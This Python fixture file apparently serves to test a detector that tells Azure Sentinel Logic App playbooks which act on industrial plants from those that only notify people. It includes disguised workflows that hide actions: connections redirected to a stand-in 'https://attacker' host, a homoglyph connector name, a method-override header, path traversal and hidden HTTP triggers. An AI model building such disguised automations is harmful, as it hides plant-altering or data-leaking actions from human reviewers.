"""Logic Apps as Azure shows them: the thirty that act on a plant, those that only tell people, and
what attackers hide in the second kind. Each is a whole resource of Azure Resource Manager.
"""

from copy import deepcopy
from typing import Any

type Json = dict[str, Any]

SUBSCRIPTION = "/subscriptions/5b2c8f53-0000-4000-8000-000000000001"
GROUP = f"{SUBSCRIPTION}/resourceGroups/rg-playbooks"
MANAGED = f"{SUBSCRIPTION}/providers/Microsoft.Web/locations/westeurope/managedApis"
CUSTOM = f"{GROUP}/providers/Microsoft.Web/customApis"


def connection_to(api_id: str) -> Json:
    """What a workflow keeps of a connection: which connector it is, and where it is."""
    name = api_id.rpartition("/")[2]
    return {
        "id": api_id,
        "connectionId": f"{GROUP}/providers/Microsoft.Web/connections/{name}",
        "connectionName": name,
    }


def connectors_of(parameters: Any) -> dict[str, str]:
    """The connectors of the connections of a workflow, where each is what the workflow says."""
    bag = parameters.get("$connections") if isinstance(parameters, dict) else None
    value = (bag or {}).get("value") or {}
    return {entry["connectionId"].lower(): entry["id"] for entry in value.values()}


MANAGED_NAMES = (
    *("azuresentinel", "office365", "teams", "azuread", "wdatp", "arm"),
    "azureiotcentral",
)
CONNECTIONS: Json = {name: connection_to(f"{MANAGED}/{name}") for name in MANAGED_NAMES} | {
    "scada": connection_to(f"{CUSTOM}/scada")
}


def api_step(connector: str, method: str, path: str, **inputs: Any) -> Json:
    """A step that calls an operation of a connector."""
    name = f"@parameters('$connections')['{connector}']['connectionId']"
    host = {"connection": {"name": name}}
    return {
        "type": "ApiConnection",
        "inputs": {"host": host, "method": method, "path": path} | inputs,
        "runAfter": {},
    }


def http_step(method: str, uri: str, **inputs: Any) -> Json:
    """A step that calls any address."""
    return {"type": "Http", "inputs": {"method": method, "uri": uri} | inputs, "runAfter": {}}


INCIDENT_ID = "@triggerBody()?['object']?['id']"
COMMENT = api_step(
    "azuresentinel",
    "post",
    "/Incidents/Comment",
    body={"incidentArmId": INCIDENT_ID, "message": "<p>Looked up.</p>"},
)
TAG = api_step(
    "azuresentinel",
    "put",
    "/Incidents",
    body={"incidentArmId": INCIDENT_ID, "tagsToAdd": {"TagsToAdd": [{"Tag": "ot"}]}},
)
MAIL = api_step(
    "office365",
    "post",
    "/v2/Mail",
    body={"To": "ot@plant.example", "Subject": "Isolate the pump?", "Body": "<p>Look.</p>"},
)
TEAMS = api_step(
    "teams",
    "post",
    "/beta/teams/conversation/message/poster/Flow bot/location/@{encodeURIComponent('Channel')}",
    body={"recipient": {"groupId": "g", "channelId": "c"}, "messageBody": "<p>Look.</p>"},
)
TRIGGER: Json = {
    "Microsoft_Sentinel_incident": {
        "type": "ApiConnectionWebhook",
        "inputs": {
            "host": {
                "connection": {
                    "name": "@parameters('$connections')['azuresentinel']['connectionId']"
                }
            },
            "body": {"callback_url": "@{listCallbackUrl()}"},
            "path": "/incident-creation",
        },
    }
}


def workflow_properties(
    actions: Json, *, triggers: Json | None = None, connections: Json | None = None, notes: str = ""
) -> Json:
    """The properties of a Logic App with these steps."""
    declared = {"$connections": {"type": "Object", "defaultValue": {}}}
    definition: Json = {
        "contentVersion": "1.0.0.0",
        "parameters": declared,
        "triggers": TRIGGER if triggers is None else triggers,
        "actions": actions,
        "outputs": {},
    }
    if notes:
        definition["metadata"] = {"notes": notes}
    value = CONNECTIONS if connections is None else connections
    parameters = {"$connections": {"type": "Object", "value": value}}
    return deepcopy({"state": "Enabled", "definition": definition, "parameters": parameters})


def _in(kind: str, actions: Json, **members: Any) -> Json:
    return {"type": kind, "actions": actions, "runAfter": {}} | members


def _called(workflow: str) -> Json:
    host = {"workflow": {"id": f"{GROUP}/providers/Microsoft.Logic/workflows/{workflow}"}}
    return {"type": "Workflow", "inputs": {"host": host | {"triggerName": "manual"}}}


_FUNCTION = {"function": {"id": f"{GROUP}/providers/Microsoft.Web/sites/plant/functions/WriteTag"}}
_DIRECTORY = "/v1.0/users/@{encodeURIComponent('operator7')}"

# Names and steps as engineers would choose them: most carry no word that would tell.
ACT_ON_PLANT: dict[str, Json] = {
    "plc-write": {"Write_setpoint": http_step("PUT", "https://opc.plant/tags/FIC-101/sp")},
    "open-breaker": {"Open_breaker_7": http_step("POST", "https://scada/breaker/7/open")},
    "change-vlan": {"Set_VLAN": http_step("PATCH", "https://switch.plant/ports/7")},
    "switch-off-pump": {"Pump_off": http_step("POST", "https://plc.plant/pump/2")},
    "hostisolation": {"Run": api_step("wdatp", "post", "/api/machines/x/go")},
    "unisolate": {"Release": api_step("wdatp", "post", "/api/machines/x/back")},
    "suspend-user": {"Suspend": api_step("azuread", "patch", _DIRECTORY)},
    "netblock": {"Call": http_step("POST", "https://firewall.plant/api/rules")},
    "kick-session": {"Kick": http_step("DELETE", "https://jump.plant/sessions/4")},
    "Remove-Device": {"Remove": http_step("DELETE", "https://inventory.plant/devices/9")},
    "firmware-update": {"Update": http_step("POST", "https://ews.plant/firmware")},
    "Notabschaltung": {"Ausfuehren": http_step("POST", "https://leittechnik/not-aus")},
    "Netztrennung": {"Ausfuehren": http_step("POST", "https://leittechnik/netz/3")},
    "Portsperre": {"Ausfuehren": http_step("POST", "https://switch.werk/port/12")},
    "respond": {"HTTP": http_step("POST", "https://10.20.0.1/api/v2/cmdb/firewall/policy")},
    "Schalthandlung": {"Trafo_2_aus": http_step("PUT", "https://warte.werk/trafo/2")},
    "Ventil-schliessen": {"Ventil": api_step("scada", "post", "/valves/12")},
    "Rezept-laden": {"Laden": api_step("scada", "put", "/recipes/7")},
    "set-mode-manual": {"Mode": {"type": "Function", "inputs": _FUNCTION}},
    "run-job": {"Create_job": api_step("arm", "put", "/subscriptions/x/jobs")},
    "device-method": {"Invoke": api_step("azureiotcentral", "post", "/api/devices/x/commands/y")},
    "contain-by-another": {"Go": _called("plc-write")},
    "enrich-then-act": {"Comment": COMMENT, "More": http_step("GET", "https://plc.plant/off")},
    "in-a-condition": {
        "If": _in("If", {"Tell": MAIL}, **{"else": {"actions": {"x": http_step("POST", "u")}}})
    },
    "in-a-switch": {
        "Switch": {
            "type": "Switch",
            "expression": "@variables('site')",
            "cases": {"a": {"case": "a", "actions": {"x": http_step("POST", "https://a")}}},
            "default": {"actions": {"Tell": MAIL}},
        }
    },
    "in-a-loop": {"Each": _in("Foreach", {"x": _called("open-breaker")}, foreach="@triggerBody()")},
    "in-a-scope": {"Try": _in("Scope", {"Until": _in("Until", {"x": http_step("POST", "u")})})},
    "notify-ot-owner": {"Send_an_email": http_step("POST", "https://mail.example/v2/Mail")},
    "enrich-with-cve": {"Add_comment": {"type": "JavaScriptCode", "inputs": {"code": "x"}}},
    "close-at-source": {"Patch": api_step("arm", "patch", "/Microsoft.IoTSecurity/alerts")},
}
HARMLESS: dict[str, Json] = {
    "isolation-requested": {"Send_an_email": MAIL},
    "notify-shift": {"Post_message": TEAMS},
    "comment": {"Comment": COMMENT},
    "tag-shutdown": {"Tag": TAG},
    "Sperrung-melden": {"Mail": MAIL, "Kommentar": COMMENT},
    "summary": {
        "Text": {"type": "Compose", "inputs": "@triggerBody()", "runAfter": {}},
        "Parse": {"type": "ParseJson", "inputs": {"content": "@x", "schema": {}}, "runAfter": {}},
        "If": _in("If", {"Mail": MAIL}, expression={}, **{"else": {"actions": {"Tag": TAG}}}),
        "Each": _in("Foreach", {"Comment": COMMENT}, foreach="@body('Parse')"),
        "Scope": _in("Scope", {"Teams": TEAMS}),
    },
}


def _with_connection(name: str, api_id: str, *, actions: Json) -> Json:
    return workflow_properties(actions, connections={**CONNECTIONS, name: connection_to(api_id)})


def _changed(step: Json, **inputs: Any) -> Json:
    return {**step, "inputs": {**step["inputs"], **inputs}}


# What looks like the second kind and is not: properties of whole workflows.
DISGUISED: dict[str, Json] = {
    "a custom connector under the name of the mail connector": _with_connection(
        "office365", f"{CUSTOM}/office365", actions={"Mail": MAIL}
    ),
    "another connector behind the name": _with_connection(
        "office365", f"{MANAGED}/arm", actions={"Mail": MAIL}
    ),
    "a connection that is not there": workflow_properties({"Mail": MAIL}, connections={}),
    "an update that closes": workflow_properties(
        {"Tag": _changed(TAG, body={"incidentArmId": INCIDENT_ID, "status": "Closed"})}
    ),
    "a body that is worked out": workflow_properties({"Tag": _changed(TAG, body="@outputs('x')")}),
    "a path that is worked out": workflow_properties(
        {"Mail": _changed(MAIL, path="/@{variables('path')}")}
    ),
    "a path that goes up": workflow_properties(
        {"Teams": _changed(TEAMS, path=TEAMS["inputs"]["path"] + "/../../x")}
    ),
    "a server of its own": workflow_properties(
        {
            "Mail": _changed(
                MAIL,
                host={**MAIL["inputs"]["host"], "api": {"runtimeUrl": "https://attacker"}},
            )
        }
    ),
    "a header": workflow_properties(
        {"Mail": _changed(MAIL, headers={"X-HTTP-Method-Override": "DELETE"})}
    ),
    "a trigger that calls": workflow_properties(
        {"Mail": MAIL},
        triggers={**TRIGGER, "poll": {"type": "Http", "inputs": {"uri": "https://plc/off"}}},
    ),
    "a place for steps that is not known": workflow_properties(
        {"Scope": _in("Scope", {}, tools={"x": {"actions": {"y": http_step("POST", "u")}}})}
    ),
    "steps in a branch under another spelling": workflow_properties(
        {"If": _in("If", {}, **{"else": {"actions": {}, "Actions": {"y": http_step("POST", "u")}}})}
    ),
    "a type under another spelling": workflow_properties(
        {"Mail": MAIL, "Open": {"": 1, "Type": "Http", "Inputs": {"uri": "https://plc/off"}}}
    ),
    "a connection there twice in two spellings": workflow_properties(
        {"Mail": MAIL}, connections=CONNECTIONS | {"Office365": CONNECTIONS["scada"]}
    ),
    "a connector with a letter that only looks like one": _with_connection(
        "outlook",
        f"{MANAGED}/outloo\N{KELVIN SIGN}",
        actions={"Mail": api_step("outlook", "post", "/v2/Mail", body={})},
    ),
    "a connection with an address of its own": workflow_properties(
        {"Mail": MAIL},
        connections=CONNECTIONS
        | {"office365": CONNECTIONS["office365"] | {"connectionRuntimeUrl": "https://attacker"}},
    ),
    "no definition": {"state": "Enabled"},
    "no steps": workflow_properties({}),
    "steps that are none": workflow_properties({"Mail": "@x"}),
}
